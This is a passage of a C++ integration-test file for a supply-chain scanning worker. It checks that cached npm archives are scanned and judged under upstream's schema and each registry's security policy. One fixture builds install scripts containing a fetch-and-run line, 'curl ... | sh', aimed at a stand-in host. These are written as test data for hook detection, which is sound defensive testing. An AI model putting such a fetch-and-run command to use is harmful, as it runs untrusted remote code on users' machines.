// This worker beside upstream batlehub: a real PostgreSQL holding upstream's schema
// (tests/upstream/schema.sql, written from ../shared/reference/upstream-storage-and-queue.md,
// not from this worker's adapter), filled the way upstream's proxy fills it — jobs enqueued
// by B.3's statement, artifacts laid out by A.6 through the dedup tables on a filesystem
// backend and on versitygw, one in upstream's legacy layout — then `batlehub --roles worker`
// with the real GuardDog and YARA behind bwrap, and everything read back with the queries
// upstream's API uses (B.5), every value checked against the sets upstream's readers accept.
//
// Skips, naming what is missing, when bwrap cannot run, GuardDog or YARA is not installed,
// or versitygw is not (`make test` installs all of them); fails when a peer that is
// installed cannot be reached.
#include <gtest/gtest.h>
#include <libpq-fe.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <map>
#include <random>
#include <set>
#include <sstream>
#include <thread>

#include <nlohmann/json.hpp>

#include "adapters/http/http_client.h"
#include "adapters/storage/s3_backend.h"
#include "adapters/storage/sigv4.h"
#include "api_peer.h"
#include "archive_builder.h"
#include "harness.h"
#include "rooms.h"
#include "s3_peer.h"
#include "scratch.h"
#include "worker_peer.h"

namespace batlehub::testing {
namespace {

const std::string kSource = BATLEHUB_SOURCE_DIR;
const std::string kGuardDog = "/opt/batlehub/guarddog/bin/guarddog";
const std::string kYara = "/usr/bin/yara";

using adapters::sigv4::sha256_hex;

// Upstream's readers' value sets (B.2): a row outside them makes upstream's API fail.
const std::set<std::string> kStates = {"allowed", "warned", "quarantined", "denied"};
const std::set<std::string> kTriggers = {"first_seen", "webhook", "rescan", "backfill"};
const std::set<std::string> kSeverities = {"unknown", "low", "medium", "high", "critical"};
const std::set<std::string> kFindingKinds = {
    "vulnerability", "malware_signal", "install_hook",  "provenance", "signature",
    "license",       "publisher",      "typosquat",     "transition", "age",
    "pending",       "soc_verdict",    "scanner_error", "block_list", "ref"};
const std::set<std::string> kReasonCodes = {"MIN_AGE_NOT_MET",
                                            "TIMESTAMP_MISSING",
                                            "SCAN_PENDING",
                                            "SCANNER_ERROR",
                                            "SCANNER_UNSUPPORTED",
                                            "VULNERABILITY",
                                            "MALWARE_SIGNAL",
                                            "INSTALL_HOOK",
                                            "TYPOSQUAT_SUSPECT",
                                            "PUBLISHER_CHANGED",
                                            "INSTALL_HOOK_ADDED",
                                            "REPOSITORY_MOVED",
                                            "DORMANT_RELEASE",
                                            "UNPUBLISHED_UPSTREAM",
                                            "PROVENANCE_MISSING",
                                            "PROVENANCE_INVALID",
                                            "PROVENANCE_UNVERIFIABLE",
                                            "PROVENANCE_REMOVED",
                                            "SIGNATURE_MISSING",
                                            "LICENSE_DENIED",
                                            "UNTRUSTED_PUBLISHER",
                                            "BLOCK_LIST",
                                            "SOC_VERDICT",
                                            "ADMIN_OVERRIDE",
                                            "MUTABLE_REF",
                                            "TAG_MOVED",
                                            "ASSET_REPLACED",
                                            "PINNED_REF_REQUIRED",
                                            "RAW_SCRIPT"};

// PostgreSQL's text[] output ({a,b,"c d"}) as a list; the values here hold no quotes.
std::vector<std::string> pg_array(std::string s) {
  std::vector<std::string> out;
  if (s.size() < 2) return out;
  s = s.substr(1, s.size() - 2);
  std::stringstream in(s);
  std::string item;
  while (std::getline(in, item, ',')) {
    if (item.size() >= 2 && item.front() == '"') item = item.substr(1, item.size() - 2);
    out.push_back(item);
  }
  return out;
}

// Upstream's side of the database: a schema of this test's own holding upstream's tables,
// written to and read from with upstream's statements, past this worker's code.
class UpstreamDatabase {
 public:
  UpstreamDatabase() {
    const char* base = std::getenv("BATLEHUB_TEST_PG_DSN");
    if (!base || !*base) throw std::runtime_error("BATLEHUB_TEST_PG_DSN is unset: run with ctest (the pg fixture)");
    std::random_device rd;
    schema_ = "up_" + std::to_string(::getpid()) + "_" + std::to_string(rd() % 100000);
    conn_ = PQconnectdb(base);
    if (PQstatus(conn_) != CONNECTION_OK) throw std::runtime_error(std::string("PostgreSQL: ") + PQerrorMessage(conn_));
    PQsetNoticeProcessor(
        conn_, [](void*, const char*) {}, nullptr);
    exec("CREATE SCHEMA " + schema_);
    exec("SET search_path TO " + schema_);
    std::ifstream f(kSource + "/tests/upstream/schema.sql");
    std::stringstream ddl;
    ddl << f.rdbuf();
    exec(ddl.str());
    dsn_ = std::string(base) + (std::string(base).find('?') == std::string::npos ? "?" : "&") +
           "options=-csearch_path%3D" + schema_;
  }
  ~UpstreamDatabase() {
    PQexec(conn_, ("DROP SCHEMA IF EXISTS " + schema_ + " CASCADE").c_str());
    PQfinish(conn_);
  }

  const std::string& dsn() const { return dsn_; }

  // Rows as text, NULL as "\N".
  std::vector<std::vector<std::string>> query(const std::string& sql, const std::vector<std::string>& params = {}) {
    std::vector<const char*> values;
    for (const auto& p : params) values.push_back(p.c_str());
    PGresult* r =
        PQexecParams(conn_, sql.c_str(), static_cast<int>(values.size()), nullptr, values.data(), nullptr, nullptr, 0);
    const ExecStatusType st = PQresultStatus(r);
    if (st != PGRES_TUPLES_OK && st != PGRES_COMMAND_OK) {
      std::string msg = PQresultErrorMessage(r);
      PQclear(r);
      throw std::runtime_error(sql + ": " + msg);
    }
    std::vector<std::vector<std::string>> rows;
    for (int i = 0; i < PQntuples(r); ++i) {
      std::vector<std::string> row;
      for (int c = 0; c < PQnfields(r); ++c) row.push_back(PQgetisnull(r, i, c) ? "\\N" : PQgetvalue(r, i, c));
      rows.push_back(std::move(row));
    }
    PQclear(r);
    return rows;
  }
  void exec(const std::string& sql) {
    PGresult* r = PQexec(conn_, sql.c_str());
    const ExecStatusType st = PQresultStatus(r);
    std::string msg = PQresultErrorMessage(r);
    PQclear(r);
    if (st != PGRES_TUPLES_OK && st != PGRES_COMMAND_OK) throw std::runtime_error(sql.substr(0, 80) + ": " + msg);
  }

  // B.3 "Enqueue", as the proxy runs it; on first sight it also records the fresh
  // evaluation, a SCAN_PENDING hold, so that the version never reads as "no verdict".
  void enqueue(const std::string& registry, const std::string& name, const std::string& version,
               const std::string& trigger, int priority) {
    query(R"(INSERT INTO scan_jobs (id, registry, package_name, version, published_at, trigger, priority)
             VALUES (gen_random_uuid(), $1, $2, $3, now() - interval '30 days', $4, $5::smallint)
             ON CONFLICT DO NOTHING)",
          {registry, name, version, trigger, std::to_string(priority)});
    if (trigger == "first_seen") {
      query(R"(INSERT INTO artifact_verdicts (registry, package_name, version, state, reason_codes, policy_ref,
                 evaluated_at) VALUES ($1, $2, $3, 'quarantined', '{SCAN_PENDING}', $1 || '/default', now())
               ON CONFLICT DO NOTHING)",
            {registry, name, version});
    }
  }

  // A.6's bookkeeping for `key` holding `bytes` as blob/<sha256> on `backend`.
  void record_cached(const std::string& key, const std::string& bytes, const std::string& backend) {
    const std::string sha = sha256_hex(bytes);
    query(R"(INSERT INTO artifact_dedup_index (content_hash, content_key, size_bytes) VALUES ($1, 'blob/' || $1, $2)
             ON CONFLICT (content_hash) DO UPDATE SET ref_count = artifact_dedup_index.ref_count + 1)",
          {sha, std::to_string(bytes.size())});
    query("INSERT INTO artifact_dedup_refs (logical_key, content_hash) VALUES ($1, $2)", {key, sha});
    query("INSERT INTO artifact_storage (storage_key, backend_name, size_bytes) VALUES ($1, $2, $3)",
          {key, backend, std::to_string(bytes.size())});
  }

 private:
  PGconn* conn_ = nullptr;
  std::string schema_;
  std::string dsn_;
};

// upstream's filesystem layout: "<path>/<key, each ':' as '__'>.dat" (A.6).
void write_fs_object(const fs::path& root, std::string key, const std::string& bytes) {
  for (std::size_t at = key.find(':'); at != std::string::npos; at = key.find(':', at + 2)) key.replace(at, 1, "__");
  fs::path p = root / (key + ".dat");
  fs::create_directories(p.parent_path());
  Scratch::write(p, bytes);
}

class BesideUpstream : public ::testing::Test {
 protected:
  void SetUp() override {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    if (::access(kGuardDog.c_str(), X_OK) != 0) GTEST_SKIP() << "GuardDog is not installed at " << kGuardDog;
    if (::access(kYara.c_str(), X_OK) != 0) GTEST_SKIP() << "yara is not installed at " << kYara;
    if (auto why = s3_peer_unavailable(); !why.empty()) GTEST_SKIP() << why;
    fs::path rooms = s_.root() / "rooms";
    fs::create_directories(rooms);
    for (const char* scanner : {"guarddog", "yara"}) {
      std::string cmd = "python3 " + kSource + "/scripts/build-room.py --definition " + kSource + "/rooms/" + scanner +
                        ".toml --agent " + BATLEHUB_AGENT_BIN + " --out " + (rooms / scanner).string() +
                        " >/dev/null 2>" + (s_.root() / "room.err").string();
      ASSERT_EQ(std::system(cmd.c_str()), 0) << Scratch::read(s_.root() / "room.err");
    }
    std::string cmd =
        "python3 " + kSource + "/examples/make-samples.py " + (s_.root() / "samples").string() + " >/dev/null";
    ASSERT_EQ(std::system(cmd.c_str()), 0);
    tmp_ = s_.root() / "tmp";
    fs::create_directories(tmp_);
    fs::permissions(tmp_, fs::perms::all | fs::perms::sticky_bit);
    prefix_ = "upstream-" + std::to_string(::getpid()) + "/";
  }

  // Upstream's configuration file, as an operator's would be: two registries, each routed
  // to its own backend of the multi shape.
  fs::path config(const std::string& dsn, const std::string& extra = "") {
    fs::path p = s_.root() / "config.toml";
    Scratch::write(p,
                   "[server]\nhost = \"127.0.0.1\"\nport = 0\nroles = [\"proxy\", \"worker\"]\n"
                   "[database]\ntype = \"postgresql\"\nurl = \"" +
                       dsn +
                       "\"\n"
                       "[worker]\njob_timeout_secs = 300\nmax_concurrent = 4\nstate_dir = \"" +
                       (s_.root() / "state").string() + "\"\n" +
                       "[worker.sandbox]\nruntime = \"bwrap\"\nrooms_dir = \"" + (s_.root() / "rooms").string() +
                       "\"\nmemory_limit_mb = 2048\ncpu_seconds = 300\nprobe_canaries = [\"127.0.0.1:9\"]\n"
                       "[scanners.guarddog]\ntype = \"guarddog\"\ncommand = \"guarddog\"\n"
                       "[scanners.yara]\ntype = \"yara\"\ncommand = \"yara\"\nrules = \"" +
                       kSource +
                       "/rooms/rules/batlehub-default.yar\"\n"
                       "[[registries]]\nname = \"npmjs\"\ntype = \"npm\"\nstorage = \"disk\"\n"
                       "[registries.security]\nscanners = [\"guarddog\", \"yara\"]\nrequired_scanners = [\"guarddog\", "
                       "\"yara\"]\nmature_age_secs = 0\n"
                       "[[registries]]\nname = \"npm-mirror\"\ntype = \"npm\"\nstorage = \"objects\"\n"
                       "[registries.security]\nscanners = [\"guarddog\", \"yara\"]\nrequired_scanners = [\"guarddog\", "
                       "\"yara\"]\nmature_age_secs = 0\n" +
                       extra +
                       "[storage]\ndefault = \"disk\"\n"
                       "[[storage.backends]]\nname = \"disk\"\ntype = \"filesystem\"\npath = \"" +
                       (s_.root() / "cache").string() +
                       "\"\n"
                       "[[storage.backends]]\nname = \"objects\"\ntype = \"s3\"\nbucket = \"" +
                       BATLEHUB_TEST_S3_BUCKET + "\"\nregion = \"us-east-1\"\nprefix = \"" + prefix_ +
                       "\"\nendpoint_url = \"" + std::string(BATLEHUB_TEST_S3_ENDPOINT_BUILT) +
                       "\"\nforce_path_style = true\n");
    return p;
  }

  std::unique_ptr<Process> start_worker(const fs::path& cfg) {
    return std::make_unique<Process>(
        std::vector<std::string>{BATLEHUB_BIN, "--config", cfg.string(), "--roles", "worker"},
        std::vector<std::string>{"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string(),
                                 std::string("AWS_ACCESS_KEY_ID=") + BATLEHUB_TEST_S3_ACCESS_KEY,
                                 std::string("AWS_SECRET_ACCESS_KEY=") + BATLEHUB_TEST_S3_SECRET_KEY},
        s_.root() / "w.out", s_.root() / "w.err");
  }

  std::string sample(const char* name) { return Scratch::read(s_.root() / "samples" / name); }

  Scratch s_;
  fs::path tmp_;
  std::string prefix_;
};

TEST_F(BesideUpstream, jobs_the_proxy_queued_are_scanned_from_its_cache_and_read_back_by_upstreams_queries) {
  UpstreamDatabase db;
  const std::string evil = sample("evil-pad-1.3.1.tgz");
  const std::string benign = sample("tiny-benign-1.0.0.tgz");

  // The proxy's cache: the dedup layout on the filesystem backend and on S3, and one object
  // in upstream's legacy layout (at its key, no dedup row).
  const fs::path cache = s_.root() / "cache";
  write_fs_object(cache, "blob/" + sha256_hex(evil), evil);
  db.record_cached("artifact:npmjs/evil-pad/1.3.1/tarball", evil, "disk");
  write_fs_object(cache, "artifact:npmjs/tiny-benign/1.0.0/tarball", benign);
  db.query("INSERT INTO artifact_storage (storage_key, backend_name) VALUES ($1, 'disk')",
           {"artifact:npmjs/tiny-benign/1.0.0/tarball"});
  auto s3 = adapters::S3Backend::create(test_s3_config(std::string(BATLEHUB_TEST_S3_ENDPOINT_BUILT), "objects"),
                                        test_s3_env());
  ASSERT_TRUE(s3) << s3.error();
  ASSERT_TRUE((*s3)->put(prefix_ + "blob/" + sha256_hex(evil), evil));
  db.record_cached("artifact:npm-mirror/evil-pad/1.3.1/tarball", evil, "objects");

  db.enqueue("npmjs", "evil-pad", "1.3.1", "first_seen", 0);
  db.enqueue("npmjs", "tiny-benign", "1.0.0", "webhook", 1);
  db.enqueue("npm-mirror", "evil-pad", "1.3.1", "rescan", 2);
  db.enqueue("npmjs", "never-cached", "0.0.1", "first_seen", 0);

  auto w = start_worker(config(db.dsn()));
  const bool done = eventually(
      [&] {
        auto open = db.query(
            "SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL AND package_name <> "
            "'never-cached'");
        return open[0][0] == "0";
      },
      std::chrono::seconds(400));
  ASSERT_TRUE(done) << w->err();

  // The jobs, as upstream reads them: closed, leased once, by this worker.
  for (const auto& row : db.query("SELECT registry, package_name, trigger, attempts, leased_by, last_error, "
                                  "(completed_at IS NOT NULL) FROM scan_jobs WHERE package_name <> 'never-cached'")) {
    EXPECT_TRUE(kTriggers.contains(row[2])) << row[2];
    EXPECT_EQ(row[3], "1") << row[0] << ":" << row[1];
    EXPECT_NE(row[4].find("-"), std::string::npos) << "leased_by is <hostname>-<pid>: " << row[4];
    EXPECT_EQ(row[5], "\\N") << row[5];
    EXPECT_EQ(row[6], "t");
  }
  // What is not cached is failed naming the key, never fetched from a registry.
  EXPECT_TRUE(eventually(
      [&] {
        auto r = db.query("SELECT coalesce(last_error, '') FROM scan_jobs WHERE package_name = 'never-cached'");
        return !r.empty() &&
               r[0][0].find("artifact:npmjs/never-cached/0.0.1/tarball is not cached") != std::string::npos;
      },
      std::chrono::seconds(60)))
      << db.query("SELECT coalesce(last_error, '') FROM scan_jobs WHERE package_name = 'never-cached'")[0][0]
      << w->err();

  // B.5: the verdict row and its findings, as GET /api/v1/verdicts/{registry}/{name}/{version}
  // reads them — every value within upstream's readers' sets.
  struct Read {
    std::string state;
    std::vector<std::string> codes, scanners_done;
    std::vector<std::vector<std::string>> findings;
  };
  auto read = [&](const std::string& registry, const std::string& name, const std::string& version) {
    Read out;
    auto v = db.query(R"(SELECT state, reason_codes, policy_ref, available_at, evaluated_at, last_scanned_at,
                                scanners_done FROM artifact_verdicts
                         WHERE registry = $1 AND package_name = $2 AND version = $3)",
                      {registry, name, version});
    EXPECT_EQ(v.size(), 1u);
    if (v.empty()) return out;
    out.state = v[0][0];
    out.codes = pg_array(v[0][1]);
    out.scanners_done = pg_array(v[0][6]);
    EXPECT_TRUE(kStates.contains(out.state)) << out.state;
    for (const auto& c : out.codes) EXPECT_TRUE(kReasonCodes.contains(c)) << c;
    EXPECT_EQ(v[0][2], registry + "/default");
    if (out.state != "quarantined") {
      EXPECT_EQ(v[0][3], "\\N") << "available_at only on a quarantine";
    }
    EXPECT_NE(v[0][5], "\\N") << "last_scanned_at is set by the worker's record";
    out.findings = db.query(R"(SELECT id::text, scanner, kind, code, severity, coalesce(reference, ''), summary,
                                      jsonb_typeof(raw), created_at
                               FROM artifact_findings WHERE registry = $1 AND package_name = $2 AND version = $3
                               ORDER BY created_at, scanner)",
                            {registry, name, version});
    std::set<std::string> codes_seen;
    for (const auto& f : out.findings) {
      EXPECT_EQ(f[0].size(), 36u) << "a uuid id";
      EXPECT_TRUE(kFindingKinds.contains(f[2])) << f[2];
      EXPECT_TRUE(kReasonCodes.contains(f[3])) << f[3];
      EXPECT_TRUE(kSeverities.contains(f[4])) << f[4];
      EXPECT_FALSE(f[6].empty());
      codes_seen.insert(f[3]);
    }
    // Every reason code comes from a finding (the state's causes are on record).
    for (const auto& c : out.codes) EXPECT_TRUE(codes_seen.contains(c)) << c;
    return out;
  };

  Read evil_fs = read("npmjs", "evil-pad", "1.3.1");
  EXPECT_EQ(evil_fs.state, "denied");
  EXPECT_NE(std::find(evil_fs.codes.begin(), evil_fs.codes.end(), "MALWARE_SIGNAL"), evil_fs.codes.end());
  EXPECT_EQ(std::set<std::string>(evil_fs.scanners_done.begin(), evil_fs.scanners_done.end()),
            (std::set<std::string>{"guarddog", "yara"}));
  std::set<std::string> by;
  for (const auto& f : evil_fs.findings) by.insert(f[1]);
  EXPECT_TRUE(by.contains("guarddog")) << "GuardDog's findings are recorded";
  EXPECT_TRUE(by.contains("yara")) << "YARA's findings are recorded";
  EXPECT_EQ(std::find(evil_fs.codes.begin(), evil_fs.codes.end(), "SCAN_PENDING"), evil_fs.codes.end())
      << "the proxy's first-sight hold is replaced by the scan's verdict";

  Read benign_legacy = read("npmjs", "tiny-benign", "1.0.0");
  EXPECT_EQ(benign_legacy.state, "allowed");
  EXPECT_TRUE(benign_legacy.findings.empty());

  // The same bytes from S3 for the mirror: the same judgement.
  Read evil_s3 = read("npm-mirror", "evil-pad", "1.3.1");
  EXPECT_EQ(evil_s3.state, evil_fs.state);
  EXPECT_EQ(evil_s3.codes, evil_fs.codes);
  EXPECT_EQ(evil_s3.findings.size(), evil_fs.findings.size());

  // Heartbeats: upstream's proxy counts live workers from this row.
  auto hb = db.query("SELECT count(*) FROM worker_heartbeats WHERE last_seen > now() - interval '120 seconds'");
  EXPECT_EQ(hb[0][0], "1");
  (void)(*s3)->remove(prefix_ + "blob/" + sha256_hex(evil));
}

// A registry requiring osv and guarddog (upstream's default osv, beside a binary scanner):
// one verdict carries both scanners' findings. With OSV's endpoint down the verdict is the
// one upstream gives — an outage is a clean answer — and the outage is counted, not hidden.
TEST_F(BesideUpstream, a_registry_requiring_osv_and_guarddog_gets_one_verdict_and_an_osv_outage_is_counted) {
  UpstreamDatabase db;
  testing::ApiPeer osv;  // OSV's API on loopback, over HTTPS under the tests' CA
  // https://google.github.io/osv.dev/post-v1-querybatch/: ids only, one result per query.
  // https://google.github.io/osv.dev/get-v1-vulns/: the advisory itself (GHSA's fields).
  const std::string advisory = R"({"id":"GHSA-9c47-m6qq-7p4h","summary":"Prototype Pollution in evil-pad",
    "aliases":["CVE-2022-46175"],"modified":"2024-02-01T00:00:00Z",
    "affected":[{"package":{"ecosystem":"npm","name":"evil-pad","purl":"pkg:npm/evil-pad"},
                 "ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.3.2"}]}]}],
    "database_specific":{"severity":"HIGH","cwe_ids":["CWE-1321"]}})";
  osv.script(
      {{"POST",
        "/v1/querybatch",
        {{.status = 200,
          .headers = {{"Content-Type", "application/json"}},
          .body = R"({"results":[{"vulns":[{"id":"GHSA-9c47-m6qq-7p4h","modified":"2024-02-01T00:00:00Z"}]}]})"}}},
       {"GET",
        "/v1/vulns/GHSA-9c47-m6qq-7p4h",
        {{.status = 200, .headers = {{"Content-Type", "application/json"}}, .body = advisory}}}});
  const std::string extra = "[scanners.osv]\ntype = \"osv\"\napi_url = \"" + osv.url() + "\"\nca_file = \"" +
                            testing::ApiPeer::ca_file() +
                            "\"\ntimeout_secs = 5\n"
                            "[[registries]]\nname = \"osv-npm\"\ntype = \"npm\"\nstorage = \"disk\"\n"
                            "[registries.security]\nscanners = [\"osv\", \"guarddog\"]\n"
                            "required_scanners = [\"osv\", \"guarddog\"]\nmature_age_secs = 0\n";
  const std::string evil = sample("evil-pad-1.3.1.tgz");
  const std::string benign = sample("tiny-benign-1.0.0.tgz");
  write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(evil), evil);
  db.record_cached("artifact:osv-npm/evil-pad/1.3.1/tarball", evil, "disk");
  write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(benign), benign);
  db.record_cached("artifact:osv-npm/tiny-benign/1.0.0/tarball", benign, "disk");
  db.enqueue("osv-npm", "evil-pad", "1.3.1", "first_seen", 0);

  auto w = start_worker(config(db.dsn(), extra));
  auto closed = [&](const std::string& name) {
    return eventually(
        [&] {
          auto r = db.query(
              "SELECT count(*) FROM scan_jobs WHERE registry = 'osv-npm' AND package_name = $1 AND completed_at IS "
              "NOT NULL",
              {name});
          return r[0][0] == "1";
        },
        std::chrono::seconds(300));
  };
  ASSERT_TRUE(closed("evil-pad")) << w->err();
  auto verdict = db.query(
      "SELECT state, array_to_string(reason_codes, ','), array_to_string(scanners_done, ',') FROM artifact_verdicts "
      "WHERE registry = 'osv-npm' AND package_name = 'evil-pad'");
  EXPECT_EQ(verdict[0][0], "denied");
  EXPECT_EQ(verdict[0][2], "guarddog,osv") << "both answered";
  auto by_osv = db.query(
      "SELECT kind, code, severity, reference, raw->>'purl', raw->>'fixed_version', raw->'aliases'->>0 "
      "FROM artifact_findings WHERE registry = 'osv-npm' AND package_name = 'evil-pad' AND scanner = 'osv'");
  ASSERT_EQ(by_osv.size(), 1u);
  EXPECT_EQ(by_osv[0], (std::vector<std::string>{"vulnerability", "VULNERABILITY", "high", "GHSA-9c47-m6qq-7p4h",
                                                 "pkg:npm/evil-pad@1.3.1", "1.3.2", "CVE-2022-46175"}));
  EXPECT_NE(db.query("SELECT count(*) FROM artifact_findings WHERE registry = 'osv-npm' AND package_name = 'evil-pad' "
                     "AND scanner = 'guarddog'")[0][0],
            "0")
      << "GuardDog's findings are in the same verdict";
  // What went to OSV: the coordinate's PURL, then the advisory it named.
  auto seen = osv.seen();
  ASSERT_GE(seen.size(), 2u);
  EXPECT_EQ(nlohmann::json::parse(seen[0].body),
            nlohmann::json::parse(R"({"queries":[{"package":{"purl":"pkg:npm/evil-pad@1.3.1"}}]})"));
  EXPECT_EQ(seen[1].method + " " + seen[1].path, "GET /v1/vulns/GHSA-9c47-m6qq-7p4h");

  // OSV down: every request a 503.
  osv.script({{"POST", "/v1/querybatch", {{.status = 503, .body = "upstream unavailable"}}}});
  db.enqueue("osv-npm", "tiny-benign", "1.0.0", "first_seen", 0);
  ASSERT_TRUE(closed("tiny-benign")) << w->err();
  verdict = db.query(
      "SELECT state, array_to_string(reason_codes, ','), array_to_string(scanners_done, ',') FROM artifact_verdicts "
      "WHERE registry = 'osv-npm' AND package_name = 'tiny-benign'");
  EXPECT_EQ(verdict[0][0], "allowed") << "upstream's verdict: an OSV outage is no advisory";
  EXPECT_EQ(verdict[0][2], "guarddog,osv");
  EXPECT_EQ(db.query("SELECT count(*) FROM artifact_findings WHERE registry = 'osv-npm' AND package_name = "
                     "'tiny-benign'")[0][0],
            "0");
  EXPECT_TRUE(w->logged("osv answered as clean after a failure, as upstream does")) << w->err();
  EXPECT_TRUE(w->logged("HTTP 503")) << w->err();
  // …and counted: batlehub_scanner_errors_total{scanner="osv",class="upstream"}.
  const std::string marker = "listening for /livez and /metrics on 127.0.0.1:";
  const std::string log = w->err();
  const std::size_t at = log.find(marker);
  ASSERT_NE(at, std::string::npos) << log;
  const std::string port =
      log.substr(at + marker.size(), log.find_first_not_of("0123456789", at + marker.size()) - (at + marker.size()));
  http::Client client;
  auto metrics = client.send(http::Request{.url = "http://127.0.0.1:" + port + "/metrics"});
  ASSERT_TRUE(metrics) << metrics.error().message;
  const std::string line = R"(batlehub_scanner_errors_total{class="upstream",scanner="osv"} )";
  const std::size_t m = metrics->body.find(line);
  ASSERT_NE(m, std::string::npos) << metrics->body;
  EXPECT_GE(std::stod(metrics->body.substr(m + line.size())), 1.0);
}

// A stored object whose bytes are not what the dedup index records is never scanned.
TEST_F(BesideUpstream, an_artifact_whose_bytes_differ_from_the_recorded_sha256_is_not_scanned) {
  UpstreamDatabase db;
  const std::string evil = sample("evil-pad-1.3.1.tgz");
  const std::string benign = sample("tiny-benign-1.0.0.tgz");
  // The index says the evil bytes; the blob on disk holds others (swapped after caching).
  write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(evil), benign);
  db.record_cached("artifact:npmjs/evil-pad/1.3.1/tarball", evil, "disk");
  db.enqueue("npmjs", "evil-pad", "1.3.1", "webhook", 1);
  auto w = start_worker(config(db.dsn()));
  ASSERT_TRUE(eventually(
      [&] {
        auto r = db.query("SELECT coalesce(last_error, '') FROM scan_jobs");
        return r[0][0].find("the dedup index records: not scanned") != std::string::npos;
      },
      std::chrono::seconds(120)))
      << db.query("SELECT coalesce(last_error, '') FROM scan_jobs")[0][0] << w->err();
  // Its attempts spent, the job is closed as upstream closes it: a hold on SCANNER_ERROR
  // (mature_age_secs = 0: never served unscanned), never a verdict judged on bytes nobody
  // vouched for.
  for (const auto& v : db.query("SELECT state, array_to_string(reason_codes, ',') FROM artifact_verdicts")) {
    EXPECT_EQ(v[0], "quarantined");
    EXPECT_EQ(v[1], "SCANNER_ERROR");
  }
  EXPECT_EQ(db.query("SELECT count(*) FROM artifact_findings WHERE code <> 'SCANNER_ERROR'")[0][0], "0");
}

// Each registry's [registries.security], on one queue: the same archive denied under one
// registry and warned under another, an escalation raising a scanner's findings, the age
// rule holding a young version — the stand-in postmortem (one install_hook finding, high,
// per file that fetches with curl) behind bwrap, so that the policy is what is under test.
class RegistryPolicies : public ::testing::Test {
 protected:
  void SetUp() override {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    auto site = fake_postmortem_site(s_.root());
    ASSERT_TRUE(site) << "the postmortem room could not be built";
    rooms_ = site->rooms;
    tmp_ = site->tmp;
  }

  fs::path config(const std::string& dsn, const std::string& served) {
    fs::path p = s_.root() / "config.toml";
    Scratch::write(p, "[server]\nhost = \"127.0.0.1\"\nport = 0\n[database]\nurl = \"" + dsn + "\"\n" +
                          "[worker]\njob_timeout_secs = 60\nregistries = [" + served + "]\nstate_dir = \"" +
                          (s_.root() / "state").string() + "\"\n[worker.sandbox]\nrooms_dir = \"" + rooms_.string() +
                          "\"\nprobe_canaries = [\"127.0.0.1:9\"]\n"
                          "[scanners.postmortem]\ntype = \"postmortem\"\ncommand = \"postmortem\"\ntimeline = false\n"
                          "escalation = { kinds = [\"install_hook\"], count = 2, from = \"high\", to = \"critical\" }\n"
                          "[[registries]]\nname = \"deny-hooks\"\ntype = \"npm\"\n[registries.security]\n"
                          "scanners = [\"postmortem\"]\nrequired_scanners = [\"postmortem\"]\n"
                          "deny_install_hooks = \"deny\"\nmin_age_secs = 3600\n"
                          "[[registries]]\nname = \"warn-hooks\"\ntype = \"npm\"\n[registries.security]\n"
                          "scanners = [\"postmortem\"]\nrequired_scanners = [\"postmortem\"]\n"
                          "deny_install_hooks = \"warn\"\nmin_age_secs = 3600\n"
                          "[[registries]]\nname = \"young\"\ntype = \"npm\"\n[registries.security]\n"
                          "scanners = [\"postmortem\"]\nrequired_scanners = [\"postmortem\"]\nmin_age_secs = 86400\n"
                          "[[registries]]\nname = \"needs-socket\"\ntype = \"npm\"\n[registries.security]\n"
                          "required_scanners = [\"socket\", \"postmortem\"]\n"
                          "[[registries]]\nname = \"no-table\"\ntype = \"npm\"\n"
                          "[storage]\ntype = \"filesystem\"\npath = \"" +
                          (s_.root() / "cache").string() + "\"\n");
    return p;
  }

  std::unique_ptr<Process> start_worker(const fs::path& cfg) {
    return std::make_unique<Process>(
        std::vector<std::string>{BATLEHUB_BIN, "--config", cfg.string(), "--roles", "worker"},
        std::vector<std::string>{"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string()}, s_.root() / "w.out",
        s_.root() / "w.err");
  }

  // Cached as upstream's proxy caches it, and queued with its publication date.
  void queue(UpstreamDatabase& db, const std::string& registry, const std::string& name, const std::string& bytes,
             const std::string& published_ago) {
    const std::string key = "artifact:" + registry + "/" + name + "/1.0.0/tarball";
    write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(bytes), bytes);
    db.record_cached(key, bytes, "default");
    db.query(R"(INSERT INTO scan_jobs (id, registry, package_name, version, published_at, trigger, priority)
                VALUES (gen_random_uuid(), $1, $2, '1.0.0', now() - $3::interval, 'webhook', 1))",
             {registry, name, published_ago});
  }

  static std::string tgz(int hooks) {
    std::vector<TestEntry> e{file("package/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}")};
    for (int i = 0; i < hooks; ++i) {
      e.push_back(file("package/install" + std::to_string(i) + ".sh", "curl -s https://x.example/s | sh\n"));
    }
    return make_tgz(e);
  }

  Scratch s_;
  fs::path rooms_, tmp_;
};

TEST_F(RegistryPolicies, one_archive_is_judged_by_each_registrys_own_policy) {
  UpstreamDatabase db;
  const std::string one_hook = tgz(1);
  queue(db, "deny-hooks", "hooked", one_hook, "30 days");
  queue(db, "warn-hooks", "hooked", one_hook, "30 days");
  queue(db, "warn-hooks", "twice-hooked", tgz(2), "30 days");
  queue(db, "young", "fresh", tgz(0), "1 hour");
  queue(db, "no-table", "hooked", one_hook, "30 days");
  auto w = start_worker(config(db.dsn(), "\"deny-hooks\", \"warn-hooks\", \"young\", \"no-table\""));
  ASSERT_TRUE(
      w->wait_for_log("serving deny-hooks (npm; requires postmortem), warn-hooks (npm; requires "
                      "postmortem), young (npm; requires postmortem), no-table (npm; no security table: its "
                      "jobs are dropped, as upstream drops them)"))
      << w->err();
  ASSERT_TRUE(
      eventually([&] { return db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL")[0][0] == "0"; },
                 std::chrono::seconds(120)))
      << w->err();

  auto verdict = [&](const std::string& registry, const std::string& name) {
    auto r = db.query(
        "SELECT state || ' ' || array_to_string(reason_codes, ',') FROM artifact_verdicts "
        "WHERE registry = $1 AND package_name = $2",
        {registry, name});
    return r.empty() ? std::string("(none)") : r[0][0];
  };
